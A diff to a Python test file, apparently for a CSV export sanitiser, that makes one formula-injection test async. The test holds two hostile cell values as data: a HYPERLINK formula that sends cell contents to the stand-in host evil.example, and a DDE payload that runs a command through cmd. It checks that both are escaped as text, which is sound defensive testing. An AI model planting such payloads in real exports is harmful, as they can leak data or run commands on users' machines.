@@ -58,11 +58,11 @@ def test_other_cells_are_written_as_they_are():
     assert csv_cell("data", {"name": "=1+1"}) == '{"name":"=1+1"}'  # JSON text starts with { or [
 
 
-def test_a_forged_correlation_id_reaches_the_file_as_text():
+async def test_a_forged_correlation_id_reaches_the_file_as_text():
     row = ["" for _ in EXPORT_FIELDS]
     row[EXPORT_FIELDS.index("correlation_id")] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
     row[EXPORT_FIELDS.index("aggregate_id")] = "@SUM(1+1)*cmd|' /C calc'!A0"
-    [parsed] = list(csv.DictReader(io.StringIO(_csv([row], header=True))))
+    [parsed] = list(csv.DictReader(io.StringIO(await _csv([row], header=True))))
     assert parsed["correlation_id"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
     assert parsed["aggregate_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in parsed.values())
